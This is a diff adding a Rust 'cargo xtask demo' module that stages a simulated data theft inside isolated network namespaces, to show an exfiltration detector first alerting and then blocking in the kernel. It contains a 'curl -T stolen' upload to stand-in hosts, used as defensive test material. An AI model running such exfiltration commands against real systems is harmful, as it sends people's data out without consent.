@@ -1,0 +1,123 @@
+//! `cargo xtask demo`: a theft that is told, then one that is stopped, for a person to watch.
+//!
+//! Real programs between network namespaces of their own; no interface, route or address of the
+//! machine is touched. Fails where an act did not do what it says.
+
+mod scene;
+mod text;
+mod watch;
+
+use std::path::Path;
+use std::time::Duration;
+
+use anyhow::{Context as _, Result, ensure};
+use detector_tests::{remove_leftovers, require_root, run_checked};
+
+use crate::setup::{self, Profile};
+use crate::release;
+use scene::{DROP_PORT, STOLEN_BYTES, Scene};
+use watch::Watch;
+
+const ALERT: Duration = Duration::from_secs(15);
+const UPLOAD: Duration = Duration::from_secs(12);
+/// An alert may trail the traffic that it is about by a poll.
+const TRAILING: Duration = Duration::from_millis(1_500);
+
+/// The verb.
+pub(crate) fn run() -> Result<()> {
+    require_root()?;
+    setup::run(Profile::Base)?;
+    release::build(&["--package", "detector"])?;
+    let program = release::program("detector")?;
+    remove_leftovers()?;
+    text::say("A client, a gateway and servers are put up in network namespaces.");
+    let scene = Scene::open()?;
+    observe(&scene, &program).context("act 1 did not do what it says")?;
+    block(&scene, &program).context("act 2 did not do what it says")?;
+    drop(scene);
+    let namespaces = run_checked(std::process::Command::new("ip").args(["netns", "list"]))?;
+    let own = format!("det-{}-", std::process::id());
+    ensure!(!namespaces.contains(&own), "a namespace was left behind: {namespaces}");
+    text::say("\nEverything that was put up is removed again.");
+    Ok(())
+}
+
+fn observe(scene: &Scene, program: &Path) -> Result<()> {
+    const HOST: &str = "198.51.100.66";
+    text::heading("Act 1: observe. The detector watches the gateway and touches nothing.");
+    let mut watch = Watch::start(program, scene, "observe")?;
+    browse(scene, &mut watch)?;
+
+    text::say(&format!(
+        "\nNow {} leave for {HOST}, which the client never spoke to.",
+        text::bytes(STOLEN_BYTES)
+    ));
+    let mut upload = steal(scene, HOST, "first")?;
+    watch.wait(&format!("-> {HOST}:{DROP_PORT}"), ALERT).context("no alert on the theft")?;
+    let status = upload.wait(UPLOAD)?;
+    ensure!(status.success(), "the upload failed: {}", upload.output());
+    let received = scene.received("first")?;
+    std::thread::sleep(TRAILING);
+    watch.show();
+    only_about(&watch, HOST)?;
+    ensure!(received == STOLEN_BYTES, "{received} bytes arrived where nothing was to be blocked");
+    text::say(&format!("The receiver counts {}: it was told, not stopped.", text::bytes(received)));
+    watch.stop()
+}
+
+fn block(scene: &Scene, program: &Path) -> Result<()> {
+    const HOST: &str = "198.51.100.77";
+    text::heading("Act 2: block. The same, and the flow that steals is dropped in the kernel.");
+    let mut watch = Watch::start(program, scene, "block")?;
+    browse(scene, &mut watch)?;
+
+    text::say(&format!("\nNow {} leave for {HOST}.", text::bytes(STOLEN_BYTES)));
+    let mut upload = steal(scene, HOST, "second")?;
+    watch.wait("blocked, after", ALERT).context("the theft was not blocked")?;
+    let pages = ["http://news.example/page-120000", "http://www.example/picture-310000"];
+    let fetched = scene.fetch(&pages).context("benign traffic did not pass")?;
+    watch.show();
+    text::say(&format!("Meanwhile the client goes on reading: {} came.", text::bytes(fetched)));
+    let status = upload.wait(UPLOAD)?;
+    let received = scene.received("second")?;
+    watch.show();
+    only_about(&watch, HOST)?;
+    ensure!(
+        !status.success() && received < STOLEN_BYTES,
+        "{received} bytes arrived although the flow was blocked"
+    );
+    text::say(&format!("curl gave up: {}", upload.output().trim()));
+    text::say(&format!(
+        "The receiver counts {} of {}.",
+        text::bytes(received),
+        text::bytes(STOLEN_BYTES)
+    ));
+    text::say(&format!("Before the alert: {}", watch.said("had left when it opened")?));
+    text::say(&format!("Before the block: {}", watch.said("blocked, after")?));
+    watch.stop()
+}
+
+/// A quarter of a working day in a few seconds; nothing of it may raise an alert.
+fn browse(scene: &Scene, watch: &mut Watch) -> Result<()> {
+    text::say("\nThe client reads pages, downloads a file, looks names up, pings.");
+    let fetched = scene.browse()?;
+    std::thread::sleep(TRAILING);
+    watch.show();
+    let alerts = watch.alerts();
+    ensure!(alerts.is_empty(), "an alert on benign traffic: {}", alerts.join("\n"));
+    text::say(&format!("{} came, no alert.", text::bytes(fetched)));
+    Ok(())
+}
+
+fn steal(scene: &Scene, host: &str, name: &str) -> Result<detector_tests::Background> {
+    text::command(&format!("curl -T stolen http://{host}:{DROP_PORT}/{name}"));
+    scene.steal(host, name)
+}
+
+/// No alert may name another host.
+fn only_about(watch: &Watch, host: &str) -> Result<()> {
+    let others: Vec<String> =
+        watch.alerts().into_iter().filter(|line| !line.contains(host)).collect();
+    ensure!(others.is_empty(), "an alert on benign traffic: {}", others.join("\n"));
+    Ok(())
+}
